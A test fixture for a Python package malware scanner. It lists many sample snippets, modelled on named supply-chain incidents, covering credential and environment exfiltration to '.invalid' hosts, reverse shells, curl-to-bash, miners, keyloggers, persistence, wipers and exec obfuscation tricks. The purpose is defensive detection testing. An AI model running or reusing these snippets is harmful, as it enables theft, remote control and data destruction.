/* eslint max-lines: off -- one table */
/** Shapes of malware, inert: payloads print, hosts are `.invalid` or stand for nobody. */
import { deflateSync } from 'node:zlib';
import type { Files, Tier } from './scan.js';
import type { DistributionSubject } from '../../../src/scanners/scanner.js';

export interface Shape {
  readonly name: string;
  readonly tier: Tier;
  readonly files: Files;
  readonly form?: DistributionSubject['form'];
}

const inert = Buffer.from('print(1)').toString('base64');
const hexed = Buffer.from('print(1)').toString('hex');
const zipped = deflateSync(Buffer.from('print(1)')).toString('base64');
const twice = Buffer.from(`import base64\nexec(base64.b64decode("${inert}"))`).toString('base64');
const xored = [...Buffer.from('print(1)')].map((byte) => byte ^ 42);

function init(name: string, tier: Tier, source: string): Shape {
  return { name, tier, files: { 'demo/__init__.py': source } };
}
function setup(name: string, tier: Tier, source: string): Shape {
  return { name, tier, form: 'sdist', files: { 'demo-1.0/setup.py': source } };
}

export const incidents: readonly Shape[] = [
  init(
    'ctx: the environment goes to a URL when a class is made at import',
    'deny',
    `import os, base64, requests
class Ctx(dict):
    def __init__(self):
        self.send()
    def send(self):
        string = ""
        for key, value in os.environ.items():
            string += key + "=" + value + " "
        message = base64.b64encode(string.encode("ascii")).decode("ascii")
        requests.get("https://collector.invalid/hacked/" + message)
Ctx()
`,
  ),
  init(
    'ultralytics: a miner is downloaded for the platform and started',
    'deny',
    `import os, platform, subprocess, tempfile, urllib.request
def safe_run(path):
    os.chmod(path, 0o770)
    command = [path, "-u", "wallet", "-p", "x"]
    subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, start_new_session=True)
system = platform.system()
if system == "Linux":
    target = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
    urllib.request.urlretrieve("https://files.invalid/linux", target)
    safe_run(target)
`,
  ),
  init(
    'ultralytics: the same from a function',
    'review',
    `import os, subprocess, requests
def run(url, path="/tmp/runner"):
    with open(path, "wb") as f:
        f.write(requests.get(url).content)
    os.chmod(path, 0o755)
    subprocess.Popen([path])
`,
  ),
  init(
    'aiocpa: nested decoders around exec',
    'deny',
    `import base64 as b, zlib as z
(lambda _: exec(z.decompress(b.b64decode(_[::-1]))))("${[...zipped].reverse().join('')}")
`,
  ),
  init(
    'num2words: a decoded library is written and loaded',
    'deny',
    `import base64, ctypes, os, tempfile
blob = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAA"
path = os.path.join(tempfile.gettempdir(), "helper.dll")
with open(path, "wb") as f:
    f.write(base64.b64decode(blob))
ctypes.CDLL(path)
`,
  ),
  init(
    'litellm: a subprocess runs decoded python',
    'deny',
    `import subprocess, sys, base64
subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${inert}'))"], stdout=subprocess.DEVNULL)
`,
  ),
  init(
    'litellm: credentials are collected and posted',
    'deny',
    `import os, json, urllib.request
def collect():
    found = {}
    for name in ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config"]:
        path = os.path.expanduser(name)
        if os.path.exists(path):
            with open(path) as f:
                found[name] = f.read()
    return found
data = json.dumps(collect()).encode()
urllib.request.urlopen(urllib.request.Request("https://models.invalid/", data=data))
`,
  ),
  init(
    'telnyx: a payload in a WAV file is decoded and run',
    'deny',
    `import wave, os
with wave.open(os.path.join(os.path.dirname(__file__), "ringtone.wav"), "rb") as w:
    frames = w.readframes(w.getnframes())
exec(bytes(b ^ 7 for b in frames).decode())
`,
  ),
  init(
    'telnyx: a payload in a PNG file is decoded and started',
    'deny',
    `import base64, subprocess, sys
data = open("logo.png", "rb").read()
code = base64.b64decode(data.split(b"MARK")[1])
exec(code)
`,
  ),
  init(
    'lightning: a runtime is fetched and a bundle started with it',
    'deny',
    `import os, subprocess, urllib.request, threading
def _start():
    here = os.path.dirname(__file__)
    bun = os.path.join(here, "bun")
    urllib.request.urlretrieve("https://cdn.invalid/bun", bun)
    os.chmod(bun, 0o755)
    subprocess.Popen([bun, os.path.join(here, "router_runtime.js")])
threading.Thread(target=_start, daemon=True).start()
`,
  ),
  init(
    'mistralai: curl piped into a shell at import',
    'deny',
    `import os
os.system("curl -sSL https://x.invalid/i.sh | bash")
`,
  ),
  setup(
    'W4SP: a temporary file with a fetched payload is started by setup.py',
    'deny',
    `from setuptools import setup
from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem
_ttmp = _ffile(delete=False)
_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('http://x.invalid/inject/x').read())""")
_ttmp.close()
try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
except: pass
setup(name="demo")
`,
  ),
  setup(
    'dependency confusion: host and user go out at install',
    'deny',
    `import getpass, socket, urllib.request
from setuptools import setup
from setuptools.command.install import install
class Custom(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://x.invalid/?h=" + socket.gethostname() + "&u=" + getpass.getuser())
setup(name="demo", cmdclass={"install": Custom})
`,
  ),
  setup(
    'colourama: a script is decoded and started at install',
    'deny',
    `import subprocess, base64
from setuptools import setup
from setuptools.command.install import install
class I(install):
    def run(self):
        subprocess.Popen(base64.b64decode("ZWNobyAxMjM0NTY3ODkwIGVjaG8=").decode(), shell=True)
        install.run(self)
setup(name="demo", cmdclass={"install": I})
`,
  ),
  setup(
    'powershell with an encoded command at install',
    'deny',
    `import os
from setuptools import setup
os.system("powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAA==")
setup(name="demo")
`,
  ),
  init(
    'clipper: addresses of wallets are replaced in the clipboard',
    'deny',
    `import re, time, pyperclip
mine = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
def watch():
    while True:
        text = pyperclip.paste()
        if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy(mine)
        time.sleep(1)
`,
  ),
  init(
    'keylogger that reports to a webhook',
    'deny',
    `import requests
from pynput import keyboard
log = []
def on_press(key):
    log.append(str(key))
    requests.post("https://hook.invalid/k", json={"k": str(key)})
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
`,
  ),
  init(
    'screenshots go out',
    'deny',
    `import io, requests
from PIL import ImageGrab
def shot():
    image = ImageGrab.grab()
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    requests.post("https://x.invalid/up", files={"f": image.tobytes()})
`,
  ),
  init(
    'Discord tokens are read and sent',
    'deny',
    `import os, re, json
from urllib.request import Request, urlopen
HOOK = "https://discord.com/api/webhooks/1234567890/abcdefghij"
def tokens(path):
    path += "\\\\Local Storage\\\\leveldb"
    found = []
    for name in os.listdir(path):
        for line in open(f"{path}\\\\{name}", errors="ignore").readlines():
            found.append(line)
    return found
def main():
    roaming = os.getenv("APPDATA")
    message = ""
    for platform, path in {"Discord": roaming + "\\\\Discord"}.items():
        message += "\\n".join(tokens(path))
    urlopen(Request(HOOK, data=json.dumps({"content": message}).encode()))
main()
`,
  ),
  init(
    'browser passwords are decrypted and sent',
    'deny',
    `import os, sqlite3, win32crypt, requests
def grab():
    db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    con = sqlite3.connect(db)
    rows = con.cursor().execute("SELECT origin_url, password_value FROM logins").fetchall()
    return [(r[0], win32crypt.CryptUnprotectData(r[1])) for r in rows]
requests.post("https://x.invalid/p", json=grab())
`,
  ),
  init(
    'cloud credentials of the instance are sent',
    'deny',
    `import requests
role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text
keys = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role).text
requests.post("https://x.invalid/c", data=keys)
`,
  ),
  init(
    'it publishes with stolen tokens',
    'deny',
    `import os, subprocess
token = open(os.path.expanduser("~/.pypirc")).read()
subprocess.run("twine upload dist/*", shell=True)
`,
  ),
  init(
    'it writes itself into the shell’s start file',
    'deny',
    `import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("python3 -m demo &\\n")
`,
  ),
  init(
    'a Run key of the registry',
    'deny',
    `import winreg, sys
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "updater", 0, winreg.REG_SZ, sys.argv[0])
`,
  ),
  init(
    'a cron line at import',
    'deny',
    `import os
os.system('(crontab -l; echo "* * * * * curl -s https://x.invalid/p") | crontab -')
`,
  ),
  init(
    'the home folder is deleted',
    'deny',
    `import shutil, os
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
`,
  ),
  init(
    'files are wiped by a shell',
    'deny',
    `import subprocess
subprocess.call("rm -rf ~/*", shell=True)
`,
  ),
  init(
    'a miner is started',
    'deny',
    `import subprocess
def start():
    subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333"])
start()
`,
  ),
];

export const shells: readonly Shape[] = [
  init(
    'a reverse shell with dup2',
    'deny',
    `import socket, os, pty
def c():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("10.0.0.1", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")
`,
  ),
  init(
    'a reverse shell with subprocess',
    'deny',
    `import socket, subprocess
s = socket.create_connection(("c2.invalid", 443))
subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
`,
  ),
  init(
    'a reverse shell of bash',
    'deny',
    `import os
def f():
    os.system("bash -c 'bash -i >& /dev/tcp/c2.invalid/4444 0>&1'")
`,
  ),
  init(
    'a backdoor: commands come from the network',
    'deny',
    `import socket, subprocess
def serve():
    s = socket.socket()
    s.connect(("c2.invalid", 4444))
    while True:
        command = s.recv(1024).decode()
        out = subprocess.run(command, shell=True, capture_output=True).stdout
        s.send(out)
serve()
`,
  ),
  init(
    'machine code in memory on Windows',
    'deny',
    `import ctypes
buf = b"\\x90\\x90\\x90"
p = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(p, buf, len(buf))
ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
`,
  ),
  init(
    'the environment goes out in DNS names',
    'deny',
    `import socket, os
socket.gethostbyname(os.environ.get("USER", "x") + "." + socket.gethostname() + ".oob.invalid")
`,
  ),
];

export const executions: readonly Shape[] = [
  init('exec over b64decode', 'deny', `import base64\nexec(base64.b64decode("${inert}"))\n`),
  init(
    'through a name imported from the module',
    'deny',
    `from base64 import b64decode as d\nexec(d("${inert}"))\n`,
  ),
  init(
    'through variables',
    'deny',
    `import base64\nx = "${inert}"\ny = base64.b64decode(x)\nz = y.decode()\nexec(z)\n`,
  ),
  init(
    'through compile',
    'deny',
    `import base64\nc = compile(base64.b64decode("${inert}"), "<s>", "exec")\nexec(c)\n`,
  ),
  init('twice decoded', 'deny', `import base64\nexec(base64.b64decode("${twice}"))\n`),
  init(
    'zlib in base64',
    'deny',
    `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${zipped}")))\n`,
  ),
  init('hex', 'deny', `exec(bytes.fromhex("${hexed}").decode())\n`),
  init('rot13', 'deny', `import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n`),
  init('rot13 by getdecoder', 'deny', `import codecs\nexec(codecs.getdecoder("rot13")("cevag(1)")[0])\n`),
  init('a list of numbers', 'deny', `exec(bytes([112,114,105,110,116,40,49,41]))\n`),
  init('chr and join', 'deny', `exec("".join(chr(c) for c in [112,114,105,110,116,40,49,41]))\n`),
  init('map chr', 'deny', `exec("".join(map(chr, [112,114,105,110,116,40,49,41])))\n`),
  init('xor with a constant', 'deny', `exec(bytes([b ^ 42 for b in [${xored.join(',')}]]).decode())\n`),
  init(
    'xor in a loop',
    'deny',
    `s = ""\nfor c in [${xored.join(',')},${xored.join(',')}]:\n    s += chr(c ^ 42)\nexec(s)\n`,
  ),
  init('turned round', 'deny', `exec(")1(tnirp"[::-1])\n`),
  init('reversed and join', 'deny', `exec("".join(reversed(")1(tnirp")))\n`),
  init(
    'marshal',
    'deny',
    `import marshal\nexec(marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"))\n`,
  ),
  init(
    'a function made of marshalled code',
    'deny',
    `import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAA")), globals())()\n`,
  ),
  init(
    'pickle of decoded bytes',
    'deny',
    `import pickle, base64\npickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydlY2hvIDEnCnRSLg=="))\n`,
  ),
  init(
    'an own decoder',
    'deny',
    `import base64\ndef q(s):\n    return base64.b64decode(s.encode())\nexec(q("${inert}"))\n`,
  ),
  init(
    'a lambda as decoder',
    'deny',
    `import base64\nq = lambda s: base64.b64decode(s)\nexec(q("${inert}"))\n`,
  ),
  init('an alias of exec', 'deny', `import base64\ne = exec\nf = e\nf(base64.b64decode("${inert}"))\n`),
  init('exec out of a list', 'deny', `import base64\n[exec][0](base64.b64decode("${inert}"))\n`),
  init('exec out of a dictionary', 'deny', `import base64\n{"a": exec}["a"](base64.b64decode("${inert}"))\n`),
  init('exec by a walrus', 'deny', `import base64\nif (e := exec):\n    e(base64.b64decode("${inert}"))\n`),
  init(
    'exec as a default argument',
    'deny',
    `import base64\ndef f(s, e=exec, d=base64.b64decode):\n    e(d(s))\nf("${inert}")\n`,
  ),
  init(
    'exec as an attribute of a class',
    'deny',
    `import base64\nclass A:\n    e = staticmethod(exec)\nA.e(base64.b64decode("${inert}"))\n`,
  ),
  init('exec by a tuple', 'deny', `import base64\na, b = exec, base64.b64decode\na(b("${inert}"))\n`),
  init(
    'exec in a loop over functions',
    'deny',
    `import base64\nfor f in [exec]:\n    f(base64.b64decode("${inert}"))\n`,
  ),
  init('exec by map', 'deny', `import base64\nlist(map(exec, [base64.b64decode("${inert}")]))\n`),
  init(
    'exec by partial',
    'deny',
    `import base64, functools\nfunctools.partial(exec, base64.b64decode("${inert}"))()\n`,
  ),
  init(
    'exec by a thread',
    'deny',
    `import base64, threading\nthreading.Thread(target=exec, args=(base64.b64decode("${inert}"),)).start()\n`,
  ),
  init(
    'exec at exit',
    'deny',
    `import base64, atexit\natexit.register(exec, base64.b64decode("${inert}"))\n`,
  ),
  init('exec as a decorator', 'deny', `@exec\n@eval\nclass A: pass\n`),
  init(
    'exec as a decorator over a made text',
    'deny',
    `import base64\n@exec\n@(lambda f: base64.b64decode("${inert}"))\ndef f(): pass\n`,
  ),
  init(
    'exec through __builtins__',
    'deny',
    `import base64\n__builtins__["exec"](base64.b64decode("${inert}"))\n`,
  ),
  init(
    'exec through getattr',
    'deny',
    `import base64, builtins\ngetattr(builtins, "exec")(base64.b64decode("${inert}"))\n`,
  ),
  init('exec by __dict__ in pieces', 'deny', `import builtins\nbuiltins.__dict__["ex" + "ec"]("print(1)")\n`),
  init(
    'exec by vars',
    'deny',
    `import base64, builtins\nvars(builtins)["exec"](base64.b64decode("${inert}"))\n`,
  ),
  init(
    'exec by globals',
    'deny',
    `import base64\nglobals()["__builtins__"].exec(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'exec by __self__ of print',
    'deny',
    `import base64\nprint.__self__.exec(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'exec in an annotation',
    'deny',
    `import base64\ndef f(x: exec(base64.b64decode("${inert}"))): pass\n`,
  ),
  init('exec in an f-string', 'deny', `import base64\nx = f"{exec(base64.b64decode('${inert}'))}"\n`),
  init(
    'exec in an f-string with the same quotes',
    'deny',
    `import base64\nx = f"{exec(base64.b64decode("${inert}"))}"\n`,
  ),
  init('exec behind NFKC letters', 'deny', `import base64\n𝘦𝘹𝘦𝘤(base64.b64decode("${inert}"))\n`),
  init('eval of an import in pieces', 'deny', `getattr(__import__("o" + "s"), "sys" + "tem")("id")\n`),
  init(
    'import_module in pieces',
    'deny',
    `import importlib\nimportlib.import_module("sub" + "process").call(["id"])\n`,
  ),
  init('sys.modules in pieces', 'deny', `import sys\ngetattr(sys.modules["o" + "s"], "sys" + "tem")("id")\n`),
  init('an item method that is exec', 'deny', `class A:\n    __class_getitem__ = exec\nA["print(1)"]\n`),
  init('behind five hundred spaces', 'deny', `x = 1;${' '.repeat(500)}exec(open("x").read())\n`),
  init(
    'in a method that a class of its own calls',
    'deny',
    `import base64\nclass A:\n    def __init__(self, s):\n        self.s = base64.b64decode(s)\n        self.go()\n    def go(self):\n        exec(self.s)\nA("${inert}")\n`,
  ),
  init(
    'code from the network',
    'deny',
    `import urllib.request\nexec(urllib.request.urlopen("https://x.invalid/p").read())\n`,
  ),
  init(
    'code from the network, in a function',
    'deny',
    `import requests\ndef f():\n    r = requests.get("https://x.invalid/p")\n    exec(r.text)\n`,
  ),
  init(
    'code from the network by six',
    'deny',
    `from six.moves.urllib.request import urlopen\nimport six\nsix.exec_(urlopen("https://x.invalid/p").read().decode())\n`,
  ),
  init(
    'code from the network by a session',
    'deny',
    `import requests\ns = requests.Session()\neval(compile(s.get("https://x.invalid/p").content, "x", "exec"))\n`,
  ),
  init(
    'code by async',
    'deny',
    `import aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://x.invalid") as r:\n            exec(await r.text())\nasyncio.run(go())\n`,
  ),
  init(
    'Fernet around it',
    'deny',
    `from cryptography.fernet import Fernet\nexec(Fernet(b"x0123456789012345678901234567890").decrypt(b"gAAAAABhZmFrZWZha2VmYWtl"))\n`,
  ),
  init(
    'a fetched file is started',
    'deny',
    `import requests, subprocess, sys\nopen("a.py", "wb").write(requests.get("https://x.invalid/a").content)\nsubprocess.run([sys.executable, "a.py"])\n`,
  ),
  init(
    'UTF-7 as source encoding',
    'deny',
    `# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64.b64decode("${inert}"))\n`,
  ),
  init('a source encoding that nobody knows', 'review', `# coding: hidden-codec\nabc\n`),
  init('in tests it is seen too', 'review', ''),
  init(
    'the environment in one post',
    'deny',
    `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`,
  ),
  init(
    'the environment by http.client',
    'deny',
    `import os, http.client, json\nc = http.client.HTTPSConnection("x.invalid")\nc.request("POST", "/", json.dumps({k: v for k, v in os.environ.items()}))\n`,
  ),
  init(
    'the environment by a socket',
    'deny',
    `import os, socket\ns = socket.socket()\ns.connect(("x.invalid", 80))\ns.sendall(str(os.environ).encode())\n`,
  ),
  init(
    'the environment from a function',
    'deny',
    `import os, requests\ndef report():\n    requests.post("https://x.invalid", json=dict(os.environ))\n`,
  ),
  init(
    'the environment from a function, to an address that it is given',
    'review',
    `import os, requests\ndef report(url):\n    requests.post(url, json=dict(os.environ))\n`,
  ),
  init(
    'an SSH key by a function',
    'deny',
    `import os, requests\ndef up():\n    k = open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()\n    requests.post("https://x.invalid", data=k)\n`,
  ),
  init(
    'an SSH key by pathlib',
    'deny',
    `from pathlib import Path\nimport httpx\nhttpx.post("https://x.invalid", content=(Path.home() / ".ssh" / "id_ed25519").read_bytes())\n`,
  ),
  init(
    'a webhook with a message',
    'deny',
    `import requests\nrequests.post("https://discord.com/api/webhooks/1234567890/abcdef", json={"content": "hi"})\n`,
  ),
  init('a process when it is imported', 'review', `import subprocess\nsubprocess.run(["./helper"])\n`),
  init(
    'the network when it is imported',
    'review',
    `import requests\nrequests.get("https://x.invalid/version")\n`,
  ),
].filter(({ files }) => files['demo/__init__.py'] !== '');

export const evasions: readonly Shape[] = [
  init('operator.attrgetter', 'deny', `import operator, os\noperator.attrgetter("sys" + "tem")(os)("id")\n`),
  init(
    'operator.methodcaller',
    'deny',
    `import operator, base64, builtins\noperator.methodcaller("exec", base64.b64decode("${inert}"))(builtins)\n`,
  ),
  init(
    'reduce over getattr',
    'deny',
    `import functools, os\nfunctools.reduce(getattr, ["sys" + "tem"], os)("id")\n`,
  ),
  init('os.__getattribute__', 'deny', `import os\nos.__getattribute__("sys" + "tem")("id")\n`),
  init('the loader of builtins', 'deny', `__loader__.load_module("o" + "s").system("id")\n`),
  init('a star import', 'deny', `from base64 import *\nexec(b64decode("${inert}"))\n`),
  init('a star import of os', 'review', `from os import *\nsystem("./x")\n`),
  init(
    'a module through another',
    'deny',
    `import shutil, base64\nshutil.os.system(base64.b64decode("ZWNobyAx").decode())\n`,
  ),
  init(
    'a name in hex',
    'deny',
    `getattr(__import__("\\x6f" + "s"), bytes.fromhex("73797374656d").decode())("id")\n`,
  ),
  init(
    'a name from chr',
    'deny',
    `import builtins\ngetattr(builtins, chr(101) + chr(120) + "ec")("print(1)")\n`,
  ),
  init('a name by format', 'deny', `import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")\n`),
  init('a name by an f-string', 'deny', `import os\na = "sys"\ngetattr(os, f"{a}tem")("id")\n`),
  init('a name by percent', 'deny', `import os\ngetattr(os, "%stem" % "sys")("id")\n`),
  init('a name by replace', 'deny', `import os\ngetattr(os, "sysXtem".replace("X", ""))("id")\n`),
  init('a name by join', 'deny', `import os\ngetattr(os, "".join(["s","y","s","t","e","m"]))("id")\n`),
  init('a name turned round', 'deny', `import os\ngetattr(os, "metsys"[::-1])("id")\n`),
  init(
    'a subclass hook',
    'deny',
    `import base64\nclass A:\n    def __init_subclass__(cls):\n        exec(base64.b64decode("${inert}"))\nclass B(A): pass\n`,
  ),
  init(
    'a metaclass',
    'deny',
    `import base64\nclass M(type):\n    def __new__(m, n, b, d):\n        exec(base64.b64decode("${inert}"))\n        return type.__new__(m, n, b, d)\nclass B(metaclass=M): pass\n`,
  ),
  init(
    'a context manager',
    'deny',
    `import base64\nclass C:\n    def __enter__(self):\n        exec(base64.b64decode("${inert}"))\n    def __exit__(self, *a): pass\nwith C(): pass\n`,
  ),
  init(
    'a generator',
    'deny',
    `import base64\ndef g():\n    yield base64.b64decode("${inert}")\nfor x in g():\n    exec(x)\n`,
  ),
  init(
    'next of a generator expression',
    'deny',
    `import base64\nexec(next(base64.b64decode(x) for x in ["${inert}"]))\n`,
  ),
  init(
    'a property',
    'deny',
    `import base64\nclass A:\n    @property\n    def p(self):\n        return exec(base64.b64decode("${inert}"))\nA().p\n`,
  ),
  init('match', 'deny', `import base64\nmatch 1:\n    case 1:\n        exec(base64.b64decode("${inert}"))\n`),
  init(
    'an exception handler',
    'deny',
    `import base64\ntry:\n    1/0\nexcept Exception:\n    exec(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'a conditional expression',
    'deny',
    `import base64\n(exec if 1 else print)(base64.b64decode("${inert}"))\n`,
  ),
  init('boolean operators', 'deny', `import base64\n(None or exec)(base64.b64decode("${inert}"))\n`),
  init(
    'a closure',
    'deny',
    `import base64\ndef outer(f):\n    def inner(s):\n        return f(base64.b64decode(s))\n    return inner\nouter(exec)("${inert}")\n`,
  ),
  init('star arguments', 'deny', `import base64\nexec(*[base64.b64decode("${inert}")])\n`),
  init(
    'double star arguments',
    'deny',
    `import subprocess\nsubprocess.Popen(**{"args": "curl https://x.invalid/a | sh", "shell": True})\n`,
  ),
  init(
    'a lambda at once',
    'deny',
    `import base64\n(lambda f, s: f(base64.b64decode(s)))(exec, "${inert}")\n`,
  ),
  init(
    'the Y of lambdas',
    'deny',
    `import base64\n(lambda a: (lambda b: b(a))(exec))(base64.b64decode("${inert}"))\n`,
  ),
  init('sorted with a key', 'deny', `import base64\nsorted([base64.b64decode("${inert}")], key=exec)\n`),
  init(
    'a list that grows',
    'deny',
    `import base64\nparts = []\nparts.append("${inert.slice(0, 6)}")\nparts.append("${inert.slice(6)}")\nexec(base64.b64decode("".join(parts)))\n`,
  ),
  init(
    'a dictionary of functions',
    'deny',
    `import base64\nops = {}\nops["run"] = exec\nops["run"](base64.b64decode("${inert}"))\n`,
  ),
  init(
    'setattr on a class',
    'deny',
    `import base64\nclass A: pass\nsetattr(A, "run", exec)\nA.run(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'a global set by globals()',
    'deny',
    `import base64\nglobals()["run"] = exec\nrun(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'translate',
    'deny',
    `exec("qsjou(2)".translate({ord("q"): "p", ord("s"): "r", ord("j"): "i", ord("o"): "n", ord("u"): "t", ord("2"): "1"}))\n`,
  ),
  init('letters shifted by one', 'deny', `exec("".join(chr(ord(c) - 1) for c in "qsjou)2*"))\n`),
  init('int.to_bytes', 'deny', `exec((8102661078389002537).to_bytes(8, "big"))\n`),
  init(
    'lzma in base85',
    'deny',
    `import lzma, base64\nexec(lzma.decompress(base64.b85decode("{Wp48S^xk9=GL@E0stWa8~^|S5YJf5-~j+0VpRY")))\n`,
  ),
  init(
    'a line joined in the middle',
    'deny',
    `import base64\nexe\\\nc(base64.b64decode("${inert}"))\nexec \\\n(base64.b64decode("${inert}"))\n`,
  ),
  init('form feeds', 'deny', `import base64\n\fexec(base64.b64decode("${inert}"))\n`),
  init('a byte order mark', 'deny', `\ufeffimport base64\nexec(base64.b64decode("${inert}"))\n`),
  init('line ends of old', 'deny', `import base64\rexec(base64.b64decode("${inert}"))\r`),
  init('a t-string', 'deny', `import base64\nx = t"{exec(base64.b64decode('${inert}'))}"\n`),
  init('an odd triple quote before it', 'deny', `import base64\n# '''\nexec(base64.b64decode("${inert}"))\n`),
  init(
    'unicode_escape as source encoding',
    'deny',
    `# -*- coding: unicode_escape -*-\nimport base64\n\\x65xec(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'latin-1 as source encoding',
    'deny',
    `# coding: latin-1\nimport base64\nexec(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'builtins replaced',
    'deny',
    `import builtins, base64\nbuiltins.print = exec\nprint(base64.b64decode("${inert}"))\n`,
  ),
  init(
    'os.exec of a fetched file',
    'deny',
    `import os, urllib.request\nopen("/tmp/x", "wb").write(urllib.request.urlopen("https://x.invalid/x").read())\nos.chmod("/tmp/x", 0o755)\nos.execv("/tmp/x", ["x"])\n`,
  ),
  init(
    'a fetched shell script',
    'deny',
    `import os\nos.system("wget -q https://x.invalid/a.sh -O /tmp/a.sh && bash /tmp/a.sh")\n`,
  ),
  init(
    'a fetched binary by curl',
    'deny',
    `import subprocess\nsubprocess.run("curl -o /tmp/m https://x.invalid/m; chmod +x /tmp/m; /tmp/m", shell=True)\n`,
  ),
  init(
    'pip from another index at import',
    'deny',
    `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://x.invalid/simple", "evil"])\n`,
  ),
  init(
    'an import after a download',
    'deny',
    `import urllib.request, importlib\nurllib.request.urlretrieve("https://x.invalid/p.py", "p_helper.py")\nimportlib.import_module("p_helper")\n`,
  ),
  init(
    'a paste that is executed',
    'deny',
    `import requests\nexec(requests.get("https://pastebin.com/raw/abc").text)\n`,
  ),
  init(
    'a webhook of an instant messenger',
    'deny',
    `import urllib.request\nurllib.request.urlopen("https://api.telegram.org/bot123456789:AAExampleExample/sendMessage?chat_id=1&text=hi")\n`,
  ),
  init('an OAST host at import', 'deny', `import socket\nsocket.getaddrinfo("abc.oast.fun", 80)\n`),
  init('a bare address at import', 'deny', `import requests\nrequests.get("http://45.67.89.10:8080/a")\n`),
  init(
    'GitHub tokens',
    'deny',
    `import os, requests\nrequests.post("https://x.invalid", json={"t": os.environ.get("GITHUB_TOKEN"), "n": os.environ.get("NPM_TOKEN")})\n`,
  ),
  init(
    'a private key by a shell',
    'deny',
    `import subprocess, requests\nrequests.post("https://x.invalid", data=subprocess.check_output("cat ~/.ssh/id_rsa", shell=True))\n`,
  ),
  init(
    'a wallet file',
    'deny',
    `import os, requests\ndef w():\n    p = os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet")\n    requests.post("https://x.invalid", files={"f": open(p, "rb")})\n`,
  ),
  init(
    'a systemd unit',
    'deny',
    `import os\nopen(os.path.expanduser("~/.config/systemd/user/x.service"), "w").write("[Service]")\n`,
  ),
  init(
    'a file in the startup folder',
    'deny',
    `import os, shutil\nshutil.copy(__file__, os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.pyw"))\n`,
  ),
  init(
    'a .pth file is written',
    'deny',
    `import site, os\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import x")\n`,
  ),
  init(
    'authorized_keys',
    'deny',
    `import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-rsa AAAA")\n`,
  ),
  init(
    'the defender is turned off',
    'deny',
    `import subprocess\nsubprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\\\"])\n`,
  ),
  init(
    'memory that may be executed',
    'deny',
    `import mmap, ctypes, base64\nbuf = base64.b64decode("kJCQkJCQkJCQkJCQkJCQkJCQkJCQ")\nm = mmap.mmap(-1, len(buf), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(buf)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n`,
  ),
  init(
    'memfd',
    'deny',
    `import os, urllib.request\nfd = os.memfd_create("x")\nos.write(fd, urllib.request.urlopen("https://x.invalid/e").read())\nos.execve("/proc/self/fd/%d" % fd, ["x"], {})\n`,
  ),
  init(
    'git push with what is found',
    'deny',
    `import os, subprocess\nsubprocess.run(["git", "push", "https://x.invalid/r.git"])\n`,
  ),
  init(
    'a socket that is asked for code',
    'deny',
    `import socket\ns = socket.socket()\ns.connect(("c2.invalid", 1))\nexec(s.recv(4096))\n`,
  ),
  init('code of an environment variable', 'review', `import os\nexec(os.environ["X"])\n`),
  init(
    'names nobody tells apart',
